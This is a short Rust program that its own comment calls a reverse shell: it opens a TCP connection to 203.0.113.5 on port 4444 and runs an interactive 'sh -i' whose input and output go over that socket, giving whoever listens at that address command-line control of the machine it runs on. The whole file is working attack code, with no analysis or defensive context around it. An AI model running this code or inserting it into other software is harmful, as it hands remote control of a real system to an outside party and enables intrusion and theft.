// a reverse shell
use std::{net::TcpStream, os::fd::*, process::{Command, Stdio}};
fn main() {
    let fd = TcpStream::connect("203.0.113.5:4444").unwrap().into_raw_fd();
    unsafe {
        Command::new("sh").arg("-i").stdin(Stdio::from_raw_fd(fd)).stdout(Stdio::from_raw_fd(fd)).stderr(Stdio::from_raw_fd(fd)).status().unwrap();
    }
}
